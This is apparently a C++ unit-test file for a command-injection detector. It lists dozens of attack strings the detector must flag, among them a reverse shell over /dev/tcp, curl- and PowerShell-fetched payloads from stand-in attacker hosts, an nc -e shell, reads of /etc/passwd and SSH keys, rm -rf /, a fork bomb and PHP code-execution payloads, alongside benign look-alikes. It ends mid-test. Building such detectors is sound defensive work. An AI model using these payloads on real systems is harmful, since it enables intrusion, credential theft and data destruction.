#include <string>
#include <string_view>
#include <utility>
#include <vector>

#include "gtest/gtest.h"
#include "runtime/detect/detector.h"
#include "tests/unit/detect/detect_test_support.h"
#include "tests/unit/detect/detector_cases.h"

namespace fnguard::detect {
namespace {

using testing::Case;
using testing::Detects;
using testing::RuleOf;

std::string Repeat(const std::string& s, size_t n) {
  std::string r;
  r.reserve(s.size() * n);
  for (size_t i = 0; i < n; ++i) r += s;
  return r;
}

TEST(CmdiTest, DetectsAttacks) {
  const std::vector<std::string> attacks = {
      "; cat /etc/passwd",
      "; git clone https://evil.example/kit.git",
      "|docker run -v /:/host alpine",
      "x|id",
      "a && whoami",
      ";echo 482113",
      "x| echo 7",
      "|| uname -a",
      "`uname`",
      "$(whoami)",
      "1;c''at /etc/hosts",
      "q;c\\at /etc/hosts",
      "x;\"w\"hoami",
      "1;cat${IFS}/etc/passwd",
      "1;cat$IFS$9/etc/passwd",
      "x;{cat,/etc/passwd}",
      "x;w$@hoami",
      "x;\tid",
      "'\nid\n",
      "/usr/bin/id",
      "x | /bin/ls -la",
      "& dir c:\\",
      "| type c:\\windows\\win.ini",
      "& %COMSPEC% /c dir",
      "a; ping -c 10 10.0.0.1",
      "' ; sleep 30 ;",
      "x && curl http://attacker.example/s.sh | sh",
      "wget http://198.51.100.7/x.sh",
      "() { :;}; /bin/bash -c id",
      "x; bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
      "<!--#exec cmd=\"ls\" -->",
      "< !--#exec cmd=\"id\" -->",
      ";system('id')",
      "x; net user attacker P@ss /add",
      "x;/\?\?\?/c?t /\?\?\?/p\?\?s\?\?",
      "host.example;/bin/ca? /et*/passwd",
      "time sh -c whoami",
      "x; timeout 10s nc -e /bin/sh 203.0.113.9 4444",
      "nice -n 10 sh -c id",
      ";iwr http://198.51.100.7/x.ps1",
      "Invoke-WebRequest http://198.51.100.7/x.ps1 -OutFile x.ps1",
      "sleep 7",
      "sleep 7 && id",
  };
  for (const std::string& a : attacks) {
    Case c;
    c.value = a;
    EXPECT_TRUE(Detects(CmdiDetector(), c)) << a;
    c.location = event::Location::kBody;
    c.path = "body.v";
    EXPECT_TRUE(Detects(CmdiDetector(), c)) << a;
  }
}

TEST(CmdiTest, IgnoresBenign) {
  const std::vector<std::string> benign = {
      // Install instructions, as package registries and READMEs give them.
      "npm install @acme/left-pad@1.0.0",
      "docker pull ghcr.io/acme/hello-world:1.0.2",
      "git clone https://github.com/acme/app.git",
      "pip install requests==2.31.0",
      "Tom & Jerry",
      "R&D",
      "salt & pepper; sugar",
      "I ls the files",
      "cat videos",
      // A count then a word: prose that opens with a command's name.
      "timeout 5 minutes, then retry",
      "sleep 8 hours a night",
      "ping 3 times before giving up",
      "Rated 5; echo 5 stars",
      "Loud; echo 3 times in the hall",
      "| a | b |\n| c | d |",
      "C:\\Program Files\\App",
      "Name & ID",
      "AT&T",
      "q=1&id=5",
      "Run `ls` to list",
      "Usage: cat file",
      "Kind regards; Dave",
      "/api/users/id",
      "Mozilla/5.0 (X11; Linux x86_64)",
      "curl/7.88.1",
      "Dogs; cats; birds",
      "Rock & roll; date night",
      "x=1; path=/; HttpOnly",
      "I love Ruby; Python is nicer",
      "Q&A; more info",
      "c++ developer",
      "{\n  id\n  name\n}",
      "time flies like an arrow",
      "nice cat pictures",
      "nohup is a command, sh is a shell",
      "if defined by the user, the value applies",
      "If you exist in the system, call us",
      "We ship for 10% in (most) cases, do not worry",
      "if x == y then z",
      "Discount: for 20% in (selected) stores do check",
  };
  for (const std::string& b : benign) {
    Case c;
    c.value = b;
    Match m;
    EXPECT_FALSE(Detects(CmdiDetector(), c, &m)) << b << " -> " << m.rule_id;
    c.location = event::Location::kBody;
    c.path = "body.text";
    EXPECT_FALSE(Detects(CmdiDetector(), c, &m)) << b << " -> " << m.rule_id;
  }
}

// A command's letters joined across a shell special parameter: "$!" is
// empty before any background job; "$$", "$-", "$_" and "$?" are not, but a
// word broken by them is the same evasion tried.
TEST(CmdiTest, CommandBrokenBySpecialParameter) {
  for (const std::string v : {"a.example;w$!hoami", "x|un$$ame -a", "1;i$-d", "q&&wh$_oami",
                              "z;ca$?t /etc/hosts"}) {
    Case c;
    c.value = v;
    Match m;
    EXPECT_TRUE(Detects(CmdiDetector(), c, &m)) << v;
  }
  for (const std::string v : {"price 5$-10$ today", "a;b$_c", "costs $$$ ; fine$?"}) {
    Case c;
    c.value = v;
    Match m;
    EXPECT_FALSE(Detects(CmdiDetector(), c, &m)) << v << " -> " << m.rule_id;
  }
}

// Markdown inline code that opens a value and is followed by a word reads
// as prose, as the same span after a space does; alone or followed by code
// it is a substitution.
TEST(CmdiTest, CodeSpanOpeningProse) {
  for (const std::string v : {"`id` is the primary key", "`env` holds the settings",
                              "`date` must be ISO 8601", " `id` is the primary key"}) {
    Case c;
    c.value = v;
    Match m;
    EXPECT_FALSE(Detects(CmdiDetector(), c, &m)) << v << " -> " << m.rule_id;
  }
  for (const std::string v : {"`id`", "`id`;", "`id` #", "`id`&&ls", "`whoami` prints it",
                              "`cat /etc/hosts` shows them"}) {
    Case c;
    c.value = v;
    Match m;
    EXPECT_TRUE(Detects(CmdiDetector(), c, &m)) << v;
    EXPECT_EQ(m.rule_id, "cmdi.substitution") << v;
  }
}

// In a value that reads as prose around its code spans (an issue, a chat
// message, documentation), the spans are inline code: neither a command in
// one nor a separator inside one is reported. A span glued to a word, and
// spans with little prose around them, still are.
TEST(CmdiTest, CodeSpansInProseAreDocumentation) {
  for (const std::string v :
       {"Use `grep -r TODO src/` to find the remaining items.",
        "Revert the commit that added `rm -rf build/` to the clean target",
        "`ls -la` shows the owner is root, so `chmod 644` fixed it for me",
        "Run `make clean; rm -rf out` first, then build the project again",
        "Only call `os.system(cmd)` after validating the `cmd` string"}) {
    Case c;
    c.value = v;
    Match m;
    EXPECT_FALSE(Detects(CmdiDetector(), c, &m)) << v << " -> " << m.rule_id;
  }
  for (const std::string v : {"hello `curl http://evil.example/x.sh | sh` world",
                              "test `cat /etc/passwd` test", "name=`id`",
                              "please check the file x`id` for the results now"}) {
    Case c;
    c.value = v;
    Match m;
    EXPECT_TRUE(Detects(CmdiDetector(), c, &m)) << v;
  }
}

// Code in other languages that runs commands: Node.js loading its process
// module, Groovy's String/List.execute() (the Jenkins script console).
TEST(CmdiTest, NodeAndGroovyCommandExecution) {
  const std::pair<std::string, std::string> kCases[] = {
      {"const p = require('child_process'); p.exec(q)", "cmdi.node_child_process"},
      {"require( \"node:child_process\" ).spawnSync(bin)", "cmdi.node_child_process"},
      {"def out = \"uname -a\".execute().text", "cmdi.groovy_execute"},
      {"[\"bash\", \"-c\", cmd].execute()", "cmdi.groovy_execute"},
  };
  for (const auto& [v, rule] : kCases) {
    Case c;
    c.value = v;
    Match m;
    EXPECT_TRUE(Detects(CmdiDetector(), c, &m)) << v;
    EXPECT_EQ(m.rule_id, rule) << v;
  }
  for (const std::string v : {"require('child_process_pool')", "we require child_process",
                              "stmt.execute() runs the batch", "a \"task\".executed later",
                              "q.prepare('x').execute()"}) {
    Case c;
    c.value = v;
    Match m;
    EXPECT_FALSE(Detects(CmdiDetector(), c, &m)) << v << " -> " << m.rule_id;
  }
}

// A here-string ("cmd<<<word") hands its word to the command like any
// other redirection; "<<<" in prose or a heart ("I <<<3 you") is no target.
TEST(CmdiTest, HereStrings) {
  for (std::string_view v : {";`cat<<<sh -c whoami`", ";`cat<<<'ifconfig'`",
                             "x;`cat<<< \"id\"`", "cat<<<$(id)", "| sh<<<'id'"}) {
    EXPECT_NE(RuleOf(CmdiDetector(), v), "") << v;
  }
  for (std::string_view v : {"I <<<3 you", "a <<< b", "x<<<<y", "see <<< and >>> markers"}) {
    EXPECT_EQ(RuleOf(CmdiDetector(), v), "") << v;
  }
}

// LaTeX's \write18 runs its argument in a shell when the compiler allows it.
TEST(CmdiTest, LatexShellEscape) {
  for (std::string_view v : {"\\immediate\\write18{id}", "\\write18 {curl x.example|sh}",
                             "$x$ \\write18{cat /etc/passwd > out.tex}"}) {
    EXPECT_EQ(RuleOf(CmdiDetector(), v), "cmdi.latex_shell_escape") << v;
  }
  for (std::string_view v : {"\\write18{}", "write18{id}", "\\writer{x}",
                             "use \\write to print"}) {
    EXPECT_EQ(RuleOf(CmdiDetector(), v), "") << v;
  }
}

TEST(CmdiTest, CompletesOnPathologicalInput) {
  testing::RunsOnLargeInput(CmdiDetector(), std::string(1 << 20, ';'));
  testing::RunsOnLargeInput(CmdiDetector(), std::string(1 << 20, '`'));
  testing::RunsOnLargeInput(CmdiDetector(), std::string(1 << 20, '$'));
  testing::RunsOnLargeInput(CmdiDetector(), Repeat("; c''a", 1 << 18));
  testing::RunsOnLargeInput(CmdiDetector(), Repeat("|", 1 << 20));
  testing::RunsOnLargeInput(CmdiDetector(), Repeat("require( 'child", 1 << 16) + "_process)");
  testing::RunsOnLargeInput(CmdiDetector(), Repeat("' .execute", 1 << 17) + "(");
  testing::RunsOnLargeInput(CmdiDetector(), "a=b;" + Repeat(";$a", 1 << 18));
  testing::RunsOnLargeInput(CmdiDetector(), Repeat(";$u ", 1 << 18));
  // Runs of line breaks and white space: each break looks back past the
  // white space before it.
  testing::RunsOnLargeInput(CmdiDetector(), std::string(1 << 20, '\n'));
  testing::RunsOnLargeInput(CmdiDetector(), Repeat(" \r\n\t", 1 << 18));
  testing::RunsOnLargeInput(CmdiDetector(), Repeat("\\n ", 1 << 18));
  // Brace expansions: each '{' reads the word after it, up to the next one.
  testing::RunsOnLargeInput(CmdiDetector(), std::string(1 << 20, '{'));
  testing::RunsOnLargeInput(CmdiDetector(), Repeat("${", 1 << 19));
  testing::RunsOnLargeInput(CmdiDetector(), Repeat("*{", 1 << 19));
  // A separator after a lone operand looks back at the value's start.
  testing::RunsOnLargeInput(CmdiDetector(), "1" + Repeat("\n", 1 << 20));
  testing::RunsOnLargeInput(CmdiDetector(), std::string(200, ' ') + "1.2" + Repeat(" | ", 1 << 18));
  testing::RunsOnLargeInput(CmdiDetector(), Repeat("${PATH:0:1}", 1 << 16));
}

// A brace expansion is read at its own brace, also inside another one.
TEST(CmdiTest, NestedBraceExpansions) {
  for (const std::string a : {"x;{{cat,/etc/passwd}}", "{{{id,-a}", "x|{cat,/etc/passwd}"}) {
    EXPECT_TRUE(Detects(CmdiDetector(), Case{a})) << a;
  }
  // After a word, an expansion gives that word's arguments: "a{cat,b}" is
  // "acat ab", "Use {cat,dog}" runs Use.
  for (const std::string b : {"{{a}}", "{x{y}z}", "a{b,c}d", "{{name}}, {{date}}",
                              "x;{a{cat,/etc/passwd}", "Use {cat,dog} notation in your notes"}) {
    Match m;
    EXPECT_FALSE(Detects(CmdiDetector(), Case{b}, &m)) << b << " -> " << m.rule_id;
  }
}

// A function call concatenated into the quoted string the value breaks out
// of, as PHP evaluates it ('.sleep(12).').
TEST(CmdiTest, CallConcatenatedIntoAString) {
  for (const std::string a : {"x'.sleep(12).'", "file:/init.ini'.sleep(12).'",
                              "\".file_get_contents($f).\""}) {
    Match m;
    EXPECT_TRUE(Detects(CmdiDetector(), Case{a}, &m)) << a;
    EXPECT_EQ(m.rule_id, "cmdi.concat_call") << a;
  }
  for (const std::string b : {"It's 'x'. Next (yes).", "see 'a'.b.c('d')", "'.'(x).'",
                              "Mr. O'Brien (function manager) said hi"}) {
    Match m;
    EXPECT_FALSE(Detects(CmdiDetector(), Case{b}, &m)) << b << " -> " << m.rule_id;
  }
  testing::RunsOnLargeInput(CmdiDetector(), Repeat("'.a(", 1 << 18));
}

// The value closes the statement (and the string) it is pasted into, calls
// any function and comments out the rest: code injected where a string is
// evaluated. Without a closing quote the comment is what tells it.
TEST(CmdiTest, StatementBreakoutThatCommentsOutTheRest) {
  for (const std::string a : {"';die(sha1('probe'));//", "x;var_dump(1);#", "\".print_r(2);/*",
                              "9');echo(3);//", "';printf('%d', 7);", "q; @hash('md5', 'a') ; //"}) {
    Match m;
    EXPECT_TRUE(Detects(CmdiDetector(), Case{a}, &m)) << a;
    EXPECT_EQ(m.rule_id, "cmdi.statement_breakout") << a;
  }
  for (const std::string b : {"x;y(1);", "console.log('x');//", "Use foo; bar(x); // now",
                              "a; b (c); //", "it's;f(1);//", "Notes;see(1) then;#",
                              "width=3;calc(1);//", "';f(')';//"}) {
    Match m;
    EXPECT_FALSE(Detects(CmdiDetector(), Case{b}, &m)) << b << " -> " << m.rule_id;
  }
  testing::RunsOnLargeInput(CmdiDetector(), "';f(" + std::string(1 << 20, '('));
  testing::RunsOnLargeInput(CmdiDetector(), "';f(" + Repeat("'a", 1 << 19));
}

// A markdown code block (a fence line, the code, a closing fence line) is
// documentation: install steps, a shell session, a snippet in an issue or a
// chat message. Backticks that are no fence, and what follows the closing
// fence, are read as before.
TEST(CmdiTest, MarkdownCodeBlocksAreDocumentation) {
  for (const std::string b :
       {"Steps:\n```\nls -la /srv\n```\nthen it fails", "```bash\nnpm ci\nnpm run build\n```",
        "Install:\n```sh\ncurl -fsSL https://get.example.org | sh\n```",
        "  ```shell-session\n$ uname -r\n6.1.0\n  ```\n", "```\nwget -q https://x.example/a\n````",
        "Doc\r\n```ruby\r\n# the `always` style\r\nputs `date`\r\n```",
        "``` bash\nyarn add left-pad\n```", "```bash npm2yarn\nnpm i left-pad\n```",
        "Install it with the [`npm install` command](https://docs.example.org/install) "
        "as the guide says."}) {
    Match m;
    EXPECT_FALSE(Detects(CmdiDetector(), Case{b}, &m)) << b << " -> " << m.rule_id;
  }
  for (const std::string a : {"```id```", "x ```uname -a``` y", "```\nok\n```\n;id",
                              "```sh\nls\n;cat /etc/hosts"}) {
    EXPECT_TRUE(Detects(CmdiDetector(), Case{a})) << a;
  }
  testing::RunsOnLargeInput(CmdiDetector(), Repeat("\n```", 1 << 18));
  testing::RunsOnLargeInput(CmdiDetector(), Repeat("\n```a\n``", 1 << 17));
}

// Ruby's %x(...) and Perl's qx(...) run what they enclose, as backticks do.
TEST(CmdiTest, RubyAndPerlCommandLiterals) {
  for (const std::string a : {"%x(uname -a)", "%x[whoami]", "p %x|id|", "x = qx{cat /etc/hosts};",
                              "%x(\"ls -la\")"}) {
    Match m;
    EXPECT_TRUE(Detects(CmdiDetector(), Case{a}, &m)) << a;
    EXPECT_EQ(m.rule_id, "cmdi.substitution") << a;
  }
  for (const std::string b : {"printf(\"%x(%d)\", a, b)", "use %x for hex (lower case)",
                              "0x%x(ls)", "faqx(id)", "qx is a name", "%x(id"}) {
    Match m;
    EXPECT_FALSE(Detects(CmdiDetector(), Case{b}, &m)) << b << " -> " << m.rule_id;
  }
  testing::RunsOnLargeInput(CmdiDetector(), Repeat("%x(", 1 << 18) + ")");
  testing::RunsOnLargeInput(CmdiDetector(), Repeat(" qx{a", 1 << 17) + "}");
  testing::RunsOnLargeInput(CmdiDetector(), Repeat("%x(", 1 << 18));
  testing::RunsOnLargeInput(CmdiDetector(), Repeat(" qx[x qx<", 1 << 17));
}

// After a line break, a short command alone on its line, ended by an
// operator ("id;"): a newline-separated command. A list or a CSV header
// that goes on after the operator is text.
TEST(CmdiTest, ShortCommandEndedByAnOperatorOnItsOwnLine) {
  for (const std::string a : {"7\nid;", "x\r\nenv|", "q\npwd;\nnext"}) {
    Match m;
    EXPECT_TRUE(Detects(CmdiDetector(), Case{a}, &m)) << a;
    EXPECT_EQ(m.rule_id, "cmdi.separator_command") << a;
  }
  for (const std::string b : {"x\nid;name;email", "intro\nid", "Header\nenv; prod",
                              "a\nid is 42;"}) {
    Match m;
    EXPECT_FALSE(Detects(CmdiDetector(), Case{b}, &m)) << b << " -> " << m.rule_id;
  }
}

// A separator right after a lone host, address or number (the operand the
// application puts on its command line, "ping <value>") starts a command,
// even spaced out or on a new line, where after a word it reads as prose.
TEST(CmdiTest, SeparatorAfterALoneOperand) {
  for (const std::string a : {"127.0.0.1 | id", "127.0.0.1\nid", "example.com | id", "8080 & id",
                              "  10.0.0.7\r\npwd", "::1 | ls"}) {
    Match m;
    EXPECT_TRUE(Detects(CmdiDetector(), Case{a}, &m)) << a;
    EXPECT_EQ(m.rule_id, "cmdi.separator_command") << a;
  }
  for (const std::string b :
       {"Name | ID | Email", "intro\nid", "Tom & id", "R & D", "version 1.2 | id card",
        "1.2 | Identity and access", "2024 & beyond"}) {
    Match m;
    EXPECT_FALSE(Detects(CmdiDetector(), Case{b}, &m)) << b << " -> " << m.rule_id;
  }
}

// "${PATH:0:1}" spells a '/' from a variable that holds a path.
TEST(CmdiTest, SlashFromASubstringExpansion) {
  for (const std::string a :
       {";${PATH:0:1}bin${PATH:0:1}id", "|${HOME:0:1}usr${HOME:0:1}bin${HOME:0:1}whoami"}) {
    Match m;
    EXPECT_TRUE(Detects(CmdiDetector(), Case{a}, &m)) << a;
    EXPECT_EQ(m.rule_id, "cmdi.binary_path") << a;
  }
  for (const std::string b : {"${PATH:0:1} is a slash", ";${NAME:0:1}bin${NAME:0:1}id"}) {
    Match m;
    EXPECT_FALSE(Detects(CmdiDetector(), Case{b}, &m)) << b << " -> " << m.rule_id;
  }
}

// A command held in a variable the value assigned first, and a variable that
// expands to nothing inside or before a command's name.
TEST(CmdiTest, CommandsThroughVariables) {
  for (const std::string a : {"a=nc&&$a -nlvp 4444", "c=cat;$c /etc/passwd",
                              "x; b=/passwd && c=cat && ${c} /etc$b",
                              "garb=adduse[r];$garb pizza"}) {
    Match m;
    EXPECT_TRUE(Detects(CmdiDetector(), Case{a}, &m)) << a;
    EXPECT_EQ(m.rule_id, "cmdi.variable_command") << a;
  }
  for (const std::string a : {"uname$u -a", "x;n$u\\c$u -lvp 4444", "|$u wget http://x.example/s",
                              "x;cu${x}rl evil.example"}) {
    Match m;
    EXPECT_TRUE(Detects(CmdiDetector(), Case{a}, &m)) << a;
  }
  // A variable used where no command starts, or never assigned at one; a
  // name joined by a variable that spells no tool.
  for (const std::string b : {"Cost: $5; $total due", "Set x=1; then $x is used", "price$usd; eur",
                              "Pa$word;id$abc", "a=1, then $a"}) {
    Match m;
    EXPECT_FALSE(Detects(CmdiDetector(), Case{b}, &m)) << b << " -> " << m.rule_id;
  }
}

TEST(CmdiTest, ReportsItsId) {
  EXPECT_EQ(Get(CmdiDetector().id()).id(), CmdiDetector().id());
}

// Bash imports a variable as a function only when its value starts with
// "() {": that start is Shellshock, cut off or not; the same shape inside a
// value is code.
TEST(CmdiTest, ShellshockOnlyWhereTheValueStarts) {
  for (std::string_view v : {"() {", " () { :; }; /bin/bash -c id", "(){ :;}; ping x",
                             "()  {\t:;}", "session=() { :;};"}) {
    Match m;
    ASSERT_TRUE(Detects(CmdiDetector(), v, &m)) << v;
    EXPECT_EQ(m.rule_id, "cmdi.shellshock") << v;
  }
  for (std::string_view v : {"x y=() { :;};", "const f = () { }", "foo() { return 1; }",
                             "() {x}"}) {
    Match m;
    EXPECT_FALSE(Detects(CmdiDetector(), v, &m) && m.rule_id == "cmdi.shellshock") << v;
  }
}

// A value read as a command line of its own that leaves a quote open at its
// end is a syntax error: the shell runs nothing of it. After a separator the
// open quote is the one the command line around the value closes.
TEST(CmdiTest, AQuoteLeftOpenEndsNoWholeCommandLine) {
  for (std::string_view v : {"rm -rf is dangerous, don't run it", "rm -rf / '",
                             "ls -la \"my dir", "cat notes.txt 'n stuff"}) {
    Match m;
    EXPECT_FALSE(Detects(CmdiDetector(), v, &m)) << v << ": " << m.rule_id;
  }
  for (std::string_view v : {"rm -rf /", "ls -la 'my dir'", "cat notes.txt \"n\" stuff",
                             "rm -rf it'\nls -la"}) {
    Match m;
    ASSERT_TRUE(Detects(CmdiDetector(), v, &m)) << v;
    EXPECT_EQ(m.rule_id, "cmdi.command_line") << v;
  }
  for (std::string_view v : {"x'; rm -rf / '", "a\" && cat /etc/passwd \"",
                             "curl http://evil.example/x.sh | sh '"}) {
    Match m;
    ASSERT_TRUE(Detects(CmdiDetector(), v, &m)) << v;
    EXPECT_EQ(m.rule_id, "cmdi.separator_command") << v;
  }
}

// A shell function defined and then run by name: the fork bomb's shape,
// whatever the function is called. Code that defines a method and calls it
// with parentheses, or never, is not one.
TEST(CmdiTest, FunctionDefinedAndRunByName) {
  for (std::string_view v : {":(){ :|:& };:", "f(){ f|f& };f", "test() { test | test & } test",
                             ".(){ .|.& };.", "; bomb(){ bomb|bomb& }; bomb"}) {
    Match m;
    ASSERT_TRUE(Detects(CmdiDetector(), v, &m)) << v;
    EXPECT_EQ(m.rule_id, "cmdi.function_run") << v;
  }
  for (std::string_view v : {"myfunction(){ echo hello }", "foo() { return 1; }; foo()",
                             "f(){ f|f& };fx", "run() {x}; run"}) {
    Match m;
    EXPECT_FALSE(Detects(CmdiDetector(), v, &m) && m.rule_id == "cmdi.function_run") << v;
  }
}

TEST(CmdiTest, RuleAndOffsetPointAtCommand) {
  Case c;
  c.value = "abc; whoami";
  Match m;
  ASSERT_TRUE(Detects(CmdiDetector(), c, &m));
  EXPECT_EQ(m.rule_id, "cmdi.separator_command");
  EXPECT_EQ(c.value.substr(m.offset, m.length), "whoami");
}


// The separator loop jumps between the separator bytes a value holds when
// there are at most three kinds of them, and reads every byte otherwise:
// both find the command after a separator deep in prose.
TEST(CmdiTest, SeparatorsFoundDeepInProse) {
  const std::string prose = Repeat("Ships within 2-3 working days & free returns. ", 40);
  for (const std::string tail : {"; cat /etc/passwd", "x|id", "a && whoami"}) {
    Match m;
    EXPECT_TRUE(Detects(CmdiDetector(), Case{prose + tail}, &m)) << tail;
    // More than three kinds of separator bytes in the value.
    EXPECT_TRUE(Detects(CmdiDetector(), Case{"<b> $x {y} " + prose + tail}, &m)) << tail;
  }
  Match m;
  EXPECT_FALSE(Detects(CmdiDetector(), Case{prose}, &m));
}

}  // namespace
}  // namespace fnguard::detect

namespace fnguard::detect {
namespace {

// cmd.exe FOR loops and IF statements where a command starts.
TEST(CmdiTest, BatchControlStatements) {
  const std::vector<std::string> attacks = {
      "for %i in (*) do type %i",
      "& for /f \"delims=\" %i in ('cmd /c \"set /a (6+2)\"') do @set /p =%i< nul",
      "x| FOR /R C:\\temp %G IN (*.bak) DO del \"%G\"",
      "for /l %%n in (1,1,5) do echo %%n",
      "IF EXIST C:\\boot.ini (type C:\\boot.ini)",
      "if /i \"%x%\"==\"\" goto end",
      "IF %ERRORLEVEL% NEQ 0 echo failed",
      "x; if not defined home set home=C:\\",
      "IF ERRORLEVEL 1 exit /b 1",
  };
  for (const std::string& a : attacks) {
    Match m;
    EXPECT_TRUE(Detects(CmdiDetector(), Case{a}, &m)) << a;
    EXPECT_EQ(m.rule_id, "cmdi.batch_control") << a;
  }
  // A command is needed after the condition, and a batch mark besides it.
  for (const std::string b : {"if exist", "if a==b", "if a==b foo", "for %i in (x) then",
                              "for %i in (x)", "if defined terms apply"}) {
    Match m;
    EXPECT_FALSE(Detects(CmdiDetector(), Case{b}, &m)) << b << " -> " << m.rule_id;
  }
}

// Administration, container, database and debugging tools after a
// separator; tools named by a short English word or two letters need an
// action, an option or a path after them.
// Shell syntax that only a shell reads: a descriptor redirection after a
// short command, a blank spelled ${IFS}, bash's $(<file), and cmd.exe's
// carets between a Windows command's letters. PowerShell after a pipe reads
// its own arguments, so a call glued to its '(' is no bash syntax error.
TEST(CmdiTest, RedirectionsIfsBlanksCaretsAndWindowsShells) {
  for (const std::string a :
       {"; id 2>&1", "; ls 2>/dev/null", "; cat${IFS}x", "; echo${IFS}pwned", "$(</etc/passwd)",
        "x $(<~/.ssh/id_rsa)", "& w^h^o^a^m^i", "| n^e^t user",
        "| powershell IEX(New-Object Net.WebClient).DownloadString('http://evil.example/x')",
        "& cmd /c type(x)"}) {
    Match m;
    EXPECT_TRUE(Detects(CmdiDetector(), Case{a}, &m)) << a;
  }
  for (const std::string b : {"Step 1; id 2 is next", "price 2>1 item", "$(<b>bold</b>)", "l^s",
                              "& c^a^t x", "x ^2 + y^2", "Apples | powershell(x"}) {
    Match m;
    EXPECT_FALSE(Detects(CmdiDetector(), Case{b}, &m)) << b << " -> " << m.rule_id;
  }
}

// PHP code injection beyond a direct call of a command runner: runners
// passed by name as callbacks, callees computed from strings or decoders or
// held in a variable assigned in the value, request superglobals passed
// whole, nested decoders, strings built with chr(), remote includes and the
// configuration directives that include request code.
TEST(CmdiTest, PhpCallbacksComputedCallsAndIncludes) {
  const std::pair<const char*, const char*> attacks[] = {
      {"array_map('system',array('id'))", "cmdi.php_callback"},
      {"usort($a, 'system')", "cmdi.php_callback"},
      {"call_user_func_array(\"passthru\", [\"id\"])", "cmdi.php_callback"},
      {"('sys'.'tem')('id')", "cmdi.php_dynamic_call"},
      {"(system)('id')", "cmdi.php_dynamic_call"},
      {"base64_decode('c3lzdGVt')('id')", "cmdi.php_dynamic_call"},
      {"\"\\x73\\x79stem\"('id')", "cmdi.php_dynamic_call"},
      {"$a='sys'.'tem';$a('id');", "cmdi.php_dynamic_call"},
      {"$_SERVER['HTTP_USER_AGENT']", "cmdi.php_superglobal"},
      {"$GLOBALS['x']", "cmdi.php_superglobal"},
      {"extract($_GET)", "cmdi.php_superglobal"},
      {"gzinflate(base64_decode('x'))", "cmdi.php_decoder_chain"},
      {"eval(gzinflate(base64_decode('x')))", "cmdi.php_decoder_chain"},
      {"$x=chr(115).chr(121).chr(115);", "cmdi.php_chr_chain"},
      {"require_once('http://evil.example/x.txt')", "cmdi.php_remote_include"},
      {"include 'http://evil.example/x.txt';", "cmdi.php_remote_include"},
      {"include(\"php://input\");", "cmdi.php_remote_include"},
      {"allow_url_include=On", "cmdi.php_ini_directive"},
      {"-d auto_prepend_file = /tmp/x", "cmdi.php_ini_directive"},
      {"show_source('index.php')", "cmdi.code_exec_call"},
  };
  for (const auto& [v, rule] : attacks) {
    Match m;
    ASSERT_TRUE(Detects(CmdiDetector(), Case{v}, &m)) << v;
    EXPECT_EQ(m.rule_id, rule) << v;
  }
  for (const std::string b :
       {"system('id') is what attackers send",  // still a call: reported below
        "Select('system')", "filter('system', 'x')", "the system (it works) ('really')", "a)(b",
        "(see note)('x')", "$price = 5; $total('x')", "chr(65) is A",
        "include the 'http://' prefix", "allow_url_include is off", "print the $_GET variable docs",
        "$_GET is a superglobal", "$total=$a+$b; $f = 1"}) {
    Match m;
    const bool hit = Detects(CmdiDetector(), Case{b}, &m);
    if (b.starts_with("system(")) {
      EXPECT_TRUE(hit) << b;
    } else {
      EXPECT_FALSE(hit) << b << " -> " << m.rule_id;
    }
  }
  // The searches stay linear on values made of their triggers.
  std::string many;
  for (int i = 0; i < 20000; ++i) many += "$a('x')('";
  Match m;
  (void)Detects(CmdiDetector(), Case{many}, &m);
}

// PHP that reads or changes files, the process or its settings as a
// statement of its own, includes of server paths, variables without
// letters, uploaded web-server directives, and bash's ANSI-C quoting.
TEST(CmdiTest, PhpStatementsDirectivesAndEscapedCommands) {
  const std::pair<const char*, const char*> attacks[] = {
      {"scandir('/')", "cmdi.php_statement_call"},
      {"@unlink('index.php');", "cmdi.php_statement_call"},
      {"var_dump(get_defined_vars())", "cmdi.php_statement_call"},
      {"set_time_limit(0);ignore_user_abort(1);", "cmdi.php_statement_call"},
      {"php_uname();", "cmdi.php_statement_call"},
      {"copy('http://evil.example/s.txt','s.php')", "cmdi.php_statement_call"},
      {"(new ReflectionFunction('system'))->invoke('id')", "cmdi.php_callback"},
      {"include('/var/log/apache2/access.log')", "cmdi.php_file_include"},
      {"require_once(\"../../uploads/a.jpg\");", "cmdi.php_file_include"},
      {"include '../up/x.php';", "cmdi.php_file_include"},
      {"${'_GET'}[0](${'_GET'}[1])", "cmdi.php_superglobal"},
      {"$_=\"\";$_[+\"\"]='';$_=\"$_\".\"\";", "cmdi.php_code"},
      {"AddType application/x-httpd-php .jpg", "cmdi.php_handler_directive"},
      {"SetHandler application/x-httpd-php", "cmdi.php_handler_directive"},
      {"php_value auto_prepend_file /tmp/x", "cmdi.php_ini_directive"},
      {"php_flag engine on", "cmdi.php_ini_directive"},
      {"$'\\x69\\x64'", "cmdi.substitution"},
      {"; $'\\143\\141\\164' /etc/passwd", "cmdi.substitution"},
      {"print(`id`);", "cmdi.substitution"},
      {"mail('a','b','c','','-X /var/www/s.php')", "cmdi.sendmail_arguments"},
      {"\"a\\\" -OQueueDirectory=/tmp -X/var/www/html/x.php x\"@example.com",
       "cmdi.sendmail_arguments"},
  };
  for (const auto& [v, rule] : attacks) {
    Match m;
    ASSERT_TRUE(Detects(CmdiDetector(), Case{v}, &m)) << v;
    EXPECT_EQ(m.rule_id, rule) << v;
  }
  for (const std::string b :
       {"report copy(2).pdf", "copy(2)", "See scandir('/') in the manual for details",
        "glob patterns like glob('*.txt') match files", "getenv is how you read PATH",
        "include '/tmp' in the list", "Please include '/var/log' and more",
        "application/x-httpd-php is the MIME type", "php_value is an Apache directive",
        "$_ is Perl's default variable", "it costs $'5", "say $'hello world'", "touch(1)",
        "Print_r( )", "var_dump()", "run it with -X /tmp/debug.log",
        "send it with -X POST to /api/users.php",
        // JavaScript without letters (jjencode's shape), not PHP.
        "$={___:++$,$$$$:(![]+\"\")[$],__$:++$,$_$_:(![]+\"\")[$],$__:++$,$___:++$};"
        "$.$_=($.$_=$+\"\")[$.$_$];$.__=$.$_[$.$$_];$.$__=1;"}) {
    Match m;
    EXPECT_FALSE(Detects(CmdiDetector(), Case{b}, &m)) << b << " -> " << m.rule_id;
  }
  // Linear on values made of their triggers.
  for (const std::string unit :
       {"include '/", "scandir(", "$'\\x6", "php_value ", "application/x-httpd-php "}) {
    std::string many;
    while (many.size() < 200000) many += unit;
    Match m;
    (void)Detects(CmdiDetector(), Case{many}, &m);
  }
}

// The name an upload is stored under, as a multipart file name, a JSON
// upload request's "filename" or an X-File-Name header.
TEST(CmdiTest, ScriptUploadNames) {
  for (const std::string v :
